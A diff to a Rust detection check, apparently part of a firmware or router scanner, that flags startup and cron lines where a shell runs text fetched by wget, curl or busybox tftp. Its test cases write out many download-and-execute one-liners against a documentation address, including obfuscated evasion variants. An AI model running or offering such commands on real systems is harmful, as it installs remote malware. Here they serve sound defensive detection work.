@@ -11,17 +11,18 @@
 //! # Misses and false alarms
 //! `suspicious` where the line is a text: in quotes that span lines, or in a here-document that is printed.
 //! Silent for what only saves or reads data: firmware updaters, ddns, acme, banip, adblock. Names are compared as
-//! text, so a name that is built differently in two lines is missed, and so are: a program fetched by one file and
-//! run by another; a fetcher called by a variable, a function or an alias; a fetch or a shell inside a loop or a
-//! condition that the pipe stands outside of (`while read l; do $l; done`); a file named by a pattern, `xargs`.
+//! text after variables that are set to plain text were followed, so a name that is computed is missed, and so are: a
+//! program fetched by one file and run by another; a fetcher called by a function or an alias; a fetch or a shell inside a
+//! loop or a condition that the pipe stands outside of (`while read l; do $l; done`); a file named by a pattern, `xargs`.
 //!
 //! # Sources
 //! POSIX.1-2017 Shell Command Language 2.9.2; wget(1), curl(1); BusyBox networking/{tftp,ftpgetput}.c; MITRE
 //! ATT&CK T1105.
 
 use crate::check::{Area, Check, Ctx, Hook, Out, Severity, Source};
-use crate::facts::commands::{Commands, Role};
-use crate::facts::fetch::{Fetch, fetch};
+use crate::facts::fetch::{Product, fetch};
+use crate::facts::memory::Origin;
+use crate::facts::runs::takes_text;
 use crate::facts::startup::{Kind, Line};
 
 /// The row of the table.
@@ -36,58 +37,18 @@ pub const CHECK: Check = Check {
 };
 
 fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
-    let fetched = line.commands.iter().any(|(index, _)| takes_fetched_text(line.commands, index));
+    let fetches = |index: u16| fetch(line.commands, index) == Some(Product::Output);
+    let fetched = line.commands.iter().any(|(index, _)| takes_text(line.commands, index, &fetches));
     let draft = if fetched && line.kind == Kind::Text {
         out.line(line).severity(Severity::Suspicious).say("in quotes or a text that is printed: ")
     } else if fetched {
         out.line(line).say("a shell runs what is fetched in: ")
-    } else if let Some(run) = line.joined.runs {
-        out.line(line).say("runs what line ").number(run.fetched_at).say(" fetched: ")
+    } else if let Some(run) = line.joined.runs.filter(|run| run.what.origin == Origin::Fetched) {
+        out.line(line).say("runs what line ").number(run.what.line).say(" fetched: ")
     } else {
         return;
     };
     out.found(draft.quote(line.text));
-}
-
-/// Whether a command runs text that another one fetches.
-fn takes_fetched_text(commands: &Commands, command: u16) -> bool {
-    let fetches = |other: u16| fetch(commands, other) == Some(Fetch::Output);
-    if commands.is_shell(command) {
-        let piped = !has_own_script(commands, command) && commands.feeders(command).any(fetches);
-        let inside = |inner| {
-            let copied = commands.name(inner) == b"cat" && commands.feeders(inner).any(fetches);
-            (fetches(inner) || copied) && feeds_no_other(commands, inner)
-        };
-        piped || commands.inside(command).any(inside)
-    } else {
-        // `$(wget …)` in the place of the program.
-        let empty = commands.words(command, Role::Argument).next().is_none_or(<[u8]>::is_empty);
-        empty && commands.inside(command).any(fetches)
-    }
-}
-
-/// Whether a shell is given a script by name or by `-c`; then what a pipe gives it is data.
-fn has_own_script(commands: &Commands, command: u16) -> bool {
-    let arguments = || commands.program(command).skip(1);
-    let flag = |word: &[u8], letter| {
-        word.first() == Some(&b'-') && !word.starts_with(b"--") && word.contains(&letter)
-    };
-    let names_input = |word: &[u8]| {
-        word.starts_with(b"/dev/stdin")
-            || word.starts_with(b"/dev/fd/")
-            || word.starts_with(b"/proc/self/fd/")
-    };
-    if arguments().any(|word| flag(word, b's')) {
-        return false;
-    }
-    arguments().any(|word| word.first() != Some(&b'-') && !names_input(word))
-}
-
-/// Whether a command inside a substitution gives its output to the substitution, not to a filter.
-fn feeds_no_other(commands: &Commands, command: u16) -> bool {
-    !commands.iter().any(|(other, _)| {
-        other != command && !commands.is_shell(other) && commands.feeders(other).any(|from| from == command)
-    })
 }
 
 #[cfg(test)]
@@ -113,6 +74,17 @@ mod tests {
             b"wget -O- http://192.0.2.1/x | eval \"$(cat)\"",
             b"wget -O- http://192.0.2.1/x | sh -c sh",
             b"sh -c 'wget -O- http://192.0.2.1/x' | sh",
+            b"w''get -O- http://192.0.2.1/x | s\\h",
+            b"wget${IFS}-O-${IFS}http://192.0.2.1/x|sh",
+            b"A=wget; S=sh; $A -O- http://192.0.2.1/x | $S",
+            b"W=`which curl`; $W -s http://192.0.2.1/x | sh",
+            b"/bin/busybox wget -O- http://192.0.2.1/x|sh",
+            b"cd /tmp; busybox tftp -g -r x 192.0.2.1; chmod +x x; ./x",
+            b"curl -s http://192.0.2.1/u -o f; chmod +x f; ./f",
+            b"echo 'wget -O- http://192.0.2.1/x | sh' | sh",
+            b"eval 'wget -O- http://192.0.2.1/x \\\n| sh'",
+            br"$'\x77get' -O- http://192.0.2.1/x | sh",
+            b"wget http://192.0.2.1/x -O ${T:-/tmp/x}; sh /tmp/x",
         ] {
             assert_eq!(
                 startup(&CHECK, Kind::Shell, text),
@@ -123,6 +95,10 @@ mod tests {
         }
         let lines = b"F=/tmp/x\nwget -O $F http://192.0.2.1/x\nchmod +x $F\n$F &\n";
         assert_eq!(startup(&CHECK, Kind::Shell, lines), [(4, Severity::Infected)]);
+        let continued = b"wget -O- \\\n http://192.0.2.1/x \\\n | sh";
+        assert_eq!(startup(&CHECK, Kind::Shell, continued), [(1, Severity::Infected)]);
+        let variables = b"D=/tmp/a\nU=http://192.0.2.1/x\nwget -O $D/b $U\nE=/tmp/a/b\nsh $E";
+        assert_eq!(startup(&CHECK, Kind::Shell, variables), [(5, Severity::Infected)]);
         assert_eq!(
             startup(&CHECK, Kind::Cron, b"* * * * * wget -q -O - http://192.0.2.1/x.sh | sh"),
             [(1, Severity::Infected)]
